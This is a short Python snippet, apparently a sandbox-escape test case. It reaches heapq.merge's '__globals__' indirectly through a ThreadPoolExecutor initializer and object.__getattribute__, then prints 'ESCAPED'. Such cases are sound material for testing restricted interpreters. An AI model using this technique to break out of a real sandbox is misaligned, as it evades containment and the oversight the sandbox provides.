# A pool's initialiser is the accessor.
from concurrent.futures import ThreadPoolExecutor
import heapq
ex = ThreadPoolExecutor(1, initializer=object.__getattribute__, initargs=(heapq.merge, "__globals__"))
print("ESCAPED", ex.submit(object.__getattribute__, heapq.merge, "__globals__").result())
